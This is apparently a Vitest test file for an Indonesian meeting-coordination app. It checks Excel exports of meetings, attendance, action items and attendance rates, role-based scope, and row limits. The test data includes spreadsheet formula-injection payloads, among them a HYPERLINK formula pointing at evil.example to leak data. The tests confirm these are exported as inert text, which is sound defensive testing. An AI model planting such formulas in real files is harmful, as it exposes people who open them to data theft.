import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestUnit, createTestUser, openTestApp, requestAs, signIn } from '../../../test/helpers.js';
import { EXPORT_PAGE, exportPages, MAX_EXPORT_ROWS, XLSX_MEDIA_TYPE } from './workbook.js';

const clock = { now: () => new Date('2024-08-01T02:00:00Z') };
let ctx: Awaited<ReturnType<typeof openTestApp>>;
const password = 'sheets desk password';
const session: Record<'coordinator' | 'ntb' | 'admin' | 'officer', string> = { coordinator: '', ntb: '', admin: '', officer: '' };
const unit: Record<string, number> = {};
const meeting: Record<'readiness' | 'earlier' | 'future' | 'ntb', number> = { readiness: 0, earlier: 0, future: 0, ntb: 0 };
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak","klik")';

function call(who: keyof typeof session | null, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: unknown) {
  return requestAs(ctx.app, who ? session[who] : undefined, method, url, payload);
}

async function created(who: keyof typeof session, url: string, payload: unknown): Promise<{ id: number }> {
  const response = await call(who, 'POST', url, payload);
  if (response.statusCode >= 300) throw new Error(`${url}: ${response.statusCode} ${response.body}`);
  return response.json();
}

/** Marks invitations of a meeting present at these instants (by unit id or person id). */
async function attend(meetingId: number, arrivals: { unitId?: number; personId?: number; at: string }[]) {
  const { invitations } = (await call('coordinator', 'GET', `/meetings/${meetingId}`)).json() as { invitations: { id: number; unitId: number | null; personId: number | null }[] };
  for (const arrival of arrivals) {
    const invitation = invitations.find((i) => (arrival.unitId ? i.unitId === arrival.unitId : i.personId === arrival.personId))!;
    const response = await call('coordinator', 'PATCH', `/meetings/${meetingId}/invitations/${invitation.id}`, { attended: true, attendedAt: arrival.at });
    expect(response.statusCode).toBe(200);
  }
}

const bali = (over: Record<string, unknown>) => ({
  kind: 'rakor', organiserUnitId: unit.kesbangpol, regionCodes: ['51'], mode: 'luring', venue: 'Gedung Kertha Sabha', ...over,
});

beforeAll(async () => {
  ctx = await openTestApp(clock);
  const db = ctx.database;
  unit.kesbangpol = await createTestUnit(db, 'KESBANGPOL', '51', 'Badan Kesbangpol Provinsi Bali');
  unit.polda = await createTestUnit(db, 'POLRI', '51', 'Polda Bali');
  unit.kejati = await createTestUnit(db, 'KEJAKSAAN', '51', 'Kejati Bali');
  unit.kpu = await createTestUnit(db, 'KPU', '51', 'KPU Provinsi Bali');
  unit.bawaslu = await createTestUnit(db, 'BAWASLU', '51.06', 'Bawaslu Kabupaten Bangli');
  unit.ntb = await createTestUnit(db, 'KESBANGPOL', '52', 'Bakesbangpol NTB');
  const person = await db.db.execute<{ id: number }>(sql`
    insert into people (full_name, position, unit_id) values ('I Made Sudarma', 'Ketua', ${unit.bawaslu}) returning id`);
  const made = Number(person.rows[0]!.id);
  await createTestUser(db, { email: 'coord@s.id', password, role: 'coordinator', scopeRegionCode: '51' });
  await createTestUser(db, { email: 'ntb@s.id', password, role: 'coordinator', scopeRegionCode: '52' });
  await createTestUser(db, { email: 'admin@s.id', password, role: 'admin', scopeRegionCode: null });
  await createTestUser(db, { email: 'officer@s.id', password, role: 'officer', scopeRegionCode: '51.06', unitId: unit.bawaslu });
  for (const who of Object.keys(session) as (keyof typeof session)[]) session[who] = await signIn(ctx.app, `${who === 'coordinator' ? 'coord' : who}@s.id`, password);

  // 30 July 2024, 09:00–13:00 WITA, over Bali and Bangli: five invitations, three present.
  meeting.readiness = (await created('coordinator', '/meetings', bali({
    title: HOSTILE_TITLE, regionCodes: ['51', '51.06'], startsAt: '2024-07-30T09:00:00+08:00', endsAt: '2024-07-30T13:00:00+08:00',
  }))).id;
  await created('coordinator', `/meetings/${meeting.readiness}/invitations`, { unitIds: [unit.kesbangpol, unit.polda, unit.kejati, unit.bawaslu], personIds: [made] });
  await attend(meeting.readiness, [
    { unitId: unit.polda, at: '2024-07-30T08:55:00+08:00' }, { unitId: unit.kejati, at: '2024-07-30T09:10:00+08:00' }, { personId: made, at: '2024-07-30T09:05:00+08:00' },
  ]);
  for (const problem of ['Logistik terlambat', 'Hoaks di media sosial']) await created('coordinator', `/meetings/${meeting.readiness}/findings`, { problem, domain: 'logistik' });
  const open = await created('coordinator', `/meetings/${meeting.readiness}/action-items`, { title: '@SUM(1+1)*cmd', ownerUnitId: unit.bawaslu, dueDate: '2024-07-31' });
  const done = await created('coordinator', `/meetings/${meeting.readiness}/action-items`, { title: 'Rekap TPS rawan', ownerUnitId: unit.polda, dueDate: '2024-08-10' });
  expect((await call('coordinator', 'PATCH', `/action-items/${open.id}`, { version: 1, note: '-cek ulang data' })).statusCode).toBe(200);
  expect((await call('coordinator', 'PATCH', `/action-items/${done.id}`, { version: 1, status: 'done', note: 'Selesai direkap' })).statusCode).toBe(200);

  // 11 July 2024, 00:30 WITA (still 10 July in UTC): a monitoring meeting; Polri absent, Kejaksaan and KPU present.
  meeting.earlier = (await created('coordinator', '/meetings', bali({ kind: 'monev', title: 'Monev tengah malam', startsAt: '2024-07-10T16:30:00Z' }))).id;
  await created('coordinator', `/meetings/${meeting.earlier}/invitations`, { unitIds: [unit.polda, unit.kejati, unit.kpu] });
  await attend(meeting.earlier, [{ unitId: unit.kejati, at: '2024-07-10T16:20:00Z' }, { unitId: unit.kpu, at: '2024-07-10T16:45:00Z' }]);

  // Still to come: counted in lists, not in attendance rates.
  meeting.future = (await created('coordinator', '/meetings', bali({ title: 'Rapat pekan depan', startsAt: '2024-08-08T09:00:00+08:00' }))).id;
  await created('coordinator', `/meetings/${meeting.future}/invitations`, { unitIds: [unit.polda] });

  meeting.ntb = (await created('ntb', '/meetings', { kind: 'rakor', title: 'Rakor NTB', organiserUnitId: unit.ntb, regionCodes: ['52'], startsAt: '2024-07-20T09:00:00+08:00' })).id;
  await created('ntb', `/meetings/${meeting.ntb}/invitations`, { unitIds: [unit.ntb] });
  const [ntbInvitation] = (await call('ntb', 'GET', `/meetings/${meeting.ntb}`)).json().invitations;
  expect((await call('ntb', 'PATCH', `/meetings/${meeting.ntb}/invitations/${ntbInvitation.id}`, { attended: true, attendedAt: '2024-07-20T09:00:00+08:00' })).statusCode).toBe(200);
});
afterAll(async () => ctx?.close());

/** The cells of a sheet, row by row, header first (exceljs rows are 1-based: index 0 is dropped). */
function cells(sheet: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  sheet.eachRow({ includeEmpty: false }, (row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

async function download(who: keyof typeof session, url: string) {
  const response = await call(who, 'GET', url);
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  expect(response.headers['content-type']).toBe(XLSX_MEDIA_TYPE);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  return { workbook, disposition: String(response.headers['content-disposition']) };
}

const day = (iso: string) => new Date(`${iso}T00:00:00.000Z`);

describe('meetings export', () => {
  it('has one row per visible meeting with dates and times in the meeting’s zone, counts, and inert formulas', async () => {
    const { workbook, disposition } = await download('coordinator', '/meetings/export.xlsx');
    expect(disposition).toBe('attachment; filename="sinergi-rapat-2024-08-01.xlsx"');
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Rapat');
    const [header, ...rows] = cells(sheet);
    expect(header).toEqual(['Tanggal', 'Waktu', 'Jenis', 'Judul', 'Tingkat', 'Wilayah', 'Penyelenggara', 'Tempat', 'Moda', 'Diundang', 'Hadir', 'Kehadiran (%)', 'Temuan', 'Tindak lanjut terbuka']);
    expect(rows.map((row) => row[3])).toEqual(['Rapat pekan depan', `'${HOSTILE_TITLE}`, 'Monev tengah malam']);
    expect(rows[1]).toEqual([
      day('2024-07-30'), '09:00–13:00 WITA', 'Rapat koordinasi', `'${HOSTILE_TITLE}`, 'Provinsi', 'Bali, Kabupaten Bangli', 'Badan Kesbangpol Provinsi Bali',
      'Gedung Kertha Sabha', 'Luring', 5, 3, 0.6, 2, 1,
    ]);
    // 16:30 UTC on 10 July is 00:30 on 11 July in Bali.
    expect(rows[2]!.slice(0, 3)).toEqual([day('2024-07-11'), '00:30 WITA', 'Rapat monitoring dan evaluasi']);
    const title = sheet.getRow(3).getCell(4);
    expect(title.type).toBe(ExcelJS.ValueType.String);
    expect(title.formula).toBeUndefined();
    expect(sheet.getRow(2).getCell(1).numFmt).toBe('dd/mm/yyyy');
    expect(sheet.getRow(3).getCell(12).numFmt).toBe('0.0%');
  });

  it('speaks English on request and keeps the list’s filters', async () => {
    const { workbook, disposition } = await download('coordinator', '/meetings/export.xlsx?lang=en&kind=monev');
    expect(disposition).toContain('sinergi-meetings-2024-08-01.xlsx');
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Meetings');
    const [header, ...rows] = cells(sheet);
    expect(header!.slice(0, 4)).toEqual(['Date', 'Time', 'Kind', 'Title']);
    expect(rows.map((row) => row[3])).toEqual(['Monev tengah malam']);
    expect(rows[0]!.slice(8, 12)).toEqual(['In person', 3, 2, 2 / 3]);
    const regional = cells((await download('coordinator', '/meetings/export.xlsx?region=51.06&lang=en')).workbook.worksheets[0]!);
    expect(regional.slice(1).map((row) => row[3])).toEqual([`'${HOSTILE_TITLE}`]);
  });

  it('shows a coordinator of another province only its own meetings', async () => {
    const rows = cells((await download('ntb', '/meetings/export.xlsx')).workbook.worksheets[0]!);
    expect(rows.slice(1).map((row) => row[3])).toEqual(['Rakor NTB']);
    // Dates in WITA for NTB too; one invitation, present.
    expect(rows[1]!.slice(9, 12)).toEqual([1, 1, 1]);
  });

  it('refuses the anonymous and bad filters', async () => {
    expect((await call(null, 'GET', '/meetings/export.xlsx')).statusCode).toBe(401);
    expect((await call('coordinator', 'GET', '/meetings/export.xlsx?region=5x')).statusCode).toBe(400);
    expect((await call('coordinator', 'GET', '/meetings/export.xlsx?lang=fr')).statusCode).toBe(400);
  });
});

describe('attendance export', () => {
  it('lists the invitations with RSVP, presence and arrival in the meeting’s zone, plus the meeting’s facts', async () => {
    const { workbook, disposition } = await download('coordinator', `/meetings/${meeting.readiness}/attendance.xlsx`);
    expect(disposition).toBe(`attachment; filename="sinergi-kehadiran-rapat-${meeting.readiness}-2024-07-30.xlsx"`);
    const [attendance, facts] = workbook.worksheets;
    expect(attendance!.name).toBe('Kehadiran');
    expect(cells(attendance!)).toEqual([
      ['Unit', 'Instansi', 'Nama', 'Jabatan', 'Konfirmasi', 'Hadir', 'Jam datang (WITA)', 'Diwakili oleh'],
      ['Bawaslu Kabupaten Bangli', 'BAWASLU', undefined, undefined, 'Belum menjawab', 'tidak'],
      ['Bawaslu Kabupaten Bangli', 'BAWASLU', 'I Made Sudarma', 'Ketua', 'Belum menjawab', 'ya', '09:05'],
      ['Kejati Bali', 'KEJAKSAAN', undefined, undefined, 'Belum menjawab', 'ya', '09:10'],
      ['Badan Kesbangpol Provinsi Bali', 'KESBANGPOL', undefined, undefined, 'Belum menjawab', 'tidak'],
      ['Polda Bali', 'POLRI', undefined, undefined, 'Belum menjawab', 'ya', '08:55'],
    ]);
    expect(cells(facts!)).toContainEqual(['Kehadiran (%)', 0.6]);
    expect(cells(facts!)[0]).toEqual(['Judul', `'${HOSTILE_TITLE}`]);
  });

  it('is in English on request, and shows another day’s arrival with its date', async () => {
    const { workbook } = await download('coordinator', `/meetings/${meeting.earlier}/attendance.xlsx?lang=en`);
    const rows = cells(workbook.worksheets[0]!);
    expect(rows[0]).toEqual(['Unit', 'Agency', 'Person', 'Position', 'RSVP', 'Present', 'Arrival (WITA)', 'Represented by']);
    // Kejaksaan came at 00:20 WITA on 11 July, the meeting's own day; nobody else before midnight.
    expect(rows.slice(1).map((row) => [row[0], row[5], row[6]])).toEqual([
      ['Kejati Bali', 'yes', '00:20'], ['KPU Provinsi Bali', 'yes', '00:45'], ['Polda Bali', 'no', undefined],
    ]);
  });

  it('answers 404 outside scope and for unknown meetings, 401 without a session', async () => {
    expect((await call('ntb', 'GET', `/meetings/${meeting.readiness}/attendance.xlsx`)).statusCode).toBe(404);
    expect((await call('coordinator', 'GET', '/meetings/999999/attendance.xlsx')).statusCode).toBe(404);
    expect((await call(null, 'GET', `/meetings/${meeting.readiness}/attendance.xlsx`)).statusCode).toBe(401);
  });
});

describe('action items export', () => {
  it('lists the board overdue first, with the last note, status and inert formulas', async () => {
    const { workbook, disposition } = await download('coordinator', '/action-items/export.xlsx');
    expect(disposition).toContain('sinergi-tindak-lanjut-2024-08-01.xlsx');
    const rows = cells(workbook.worksheets[0]!);
    expect(rows[0]).toEqual(['Tindak lanjut', 'Rapat', 'Tanggal rapat', 'Unit penanggung jawab', 'Penanggung jawab', 'Tenggat', 'Status', 'Lewat tenggat', 'Catatan terakhir']);
    expect(rows.slice(1)).toEqual([
      ["'@SUM(1+1)*cmd", `'${HOSTILE_TITLE}`, day('2024-07-30'), 'Bawaslu Kabupaten Bangli', undefined, day('2024-07-31'), 'Terbuka', 'ya', "'-cek ulang data"],
      ['Rekap TPS rawan', `'${HOSTILE_TITLE}`, day('2024-07-30'), 'Polda Bali', undefined, day('2024-08-10'), 'Selesai', 'tidak', 'Selesai direkap'],
    ]);
  });

  it('keeps the board’s filters and scope', async () => {
    const done = cells((await download('coordinator', '/action-items/export.xlsx?status=done&lang=en')).workbook.worksheets[0]!);
    expect(done.slice(1).map((row) => [row[0], row[6], row[7]])).toEqual([['Rekap TPS rawan', 'Done', 'no']]);
    const mine = cells((await download('officer', '/action-items/export.xlsx?mine=unit')).workbook.worksheets[0]!);
    expect(mine.slice(1).map((row) => row[0])).toEqual(["'@SUM(1+1)*cmd"]);
    const ntb = cells((await download('ntb', '/action-items/export.xlsx')).workbook.worksheets[0]!);
    expect(ntb).toHaveLength(1);
  });
});

describe('attendance rates', () => {
  it('counts per agency over the started meetings in scope, best rate first (hand-counted)', async () => {
    const response = await call('coordinator', 'GET', '/meetings/attendance-rates');
    expect(response.statusCode).toBe(200);
    const rates = response.json();
    expect(rates.meetings).toBe(2);
    expect(rates.items.map((r: Record<string, unknown>) => [r.agencyCode, r.meetings, r.invited, r.present, r.rate])).toEqual([
      ['KEJAKSAAN', 2, 2, 2, 1],
      ['KPU', 1, 1, 1, 1],
      ['BAWASLU', 1, 2, 1, 0.5], // the unit, and its chairman invited in person
      ['POLRI', 2, 2, 1, 0.5], // next week's meeting does not count yet
      ['KESBANGPOL', 1, 1, 0, 0],
    ]);
    expect(rates.items[0]).toMatchObject({ nameId: expect.any(String), nameEn: expect.any(String) });
  });

  it('filters by region and period, and by scope', async () => {
    const bangli = (await call('coordinator', 'GET', '/meetings/attendance-rates?region=51.06')).json();
    expect(bangli.meetings).toBe(1);
    expect(bangli.items.find((r: { agencyCode: string }) => r.agencyCode === 'POLRI')).toMatchObject({ invited: 1, present: 1, rate: 1 });
    const july20 = (await call('coordinator', 'GET', `/meetings/attendance-rates?from=${encodeURIComponent('2024-07-20T00:00:00+08:00')}`)).json();
    expect(july20.meetings).toBe(1);
    expect((await call('ntb', 'GET', '/meetings/attendance-rates')).json().items.map((r: { agencyCode: string; invited: number }) => [r.agencyCode, r.invited])).toEqual([['KESBANGPOL', 1]]);
    const all = (await call('admin', 'GET', '/meetings/attendance-rates')).json();
    expect(all.items.find((r: { agencyCode: string }) => r.agencyCode === 'KESBANGPOL')).toMatchObject({ meetings: 2, invited: 2, present: 1, rate: 0.5 });
    expect((await call(null, 'GET', '/meetings/attendance-rates')).statusCode).toBe(401);
  });

  it('comes as a workbook too', async () => {
    const { workbook } = await download('coordinator', '/meetings/attendance-rates.xlsx?lang=en');
    const rows = cells(workbook.worksheets[0]!);
    expect(rows[0]).toEqual(['Agency code', 'Agency', 'Meetings', 'Invited', 'Present', 'Attendance (%)']);
    expect(rows.slice(1).map((row) => [row[0], row[3], row[4], row[5]])).toEqual([
      ['KEJAKSAAN', 2, 2, 1], ['KPU', 1, 1, 1], ['BAWASLU', 2, 1, 0.5], ['POLRI', 2, 1, 0.5], ['KESBANGPOL', 1, 0, 0],
    ]);
  });
});

describe('export size', () => {
  it('refuses a list over the limit before streaming anything', async () => {
    await expect(exportPages(async () => ({ items: [1], total: MAX_EXPORT_ROWS + 1 }))).rejects.toMatchObject({ code: 'too_many_rows', status: 422 });
  });

  it('reads page after page and stops at the limit', async () => {
    const total = 2 * EXPORT_PAGE + 5;
    const seen: number[] = [];
    const pages = await exportPages(async (offset, limit) => {
      seen.push(offset);
      return { items: Array.from({ length: Math.max(0, Math.min(limit, total - offset)) }, (_, i) => offset + i), total };
    });
    let rows = 0;
    for await (const page of pages) rows += page.length;
    expect(rows).toBe(total);
    expect(seen).toEqual([0, EXPORT_PAGE, 2 * EXPORT_PAGE]);
  });

  it('says why in the caller’s language', async () => {
    const { translateError } = await import('../../i18n/messages.js');
    expect(translateError('too_many_rows', 'en', { count: 60_000, max: MAX_EXPORT_ROWS })).toBe('This export would hold 60000 rows, more than the limit of 50000. Narrow the filters (region, date range).');
  });
});
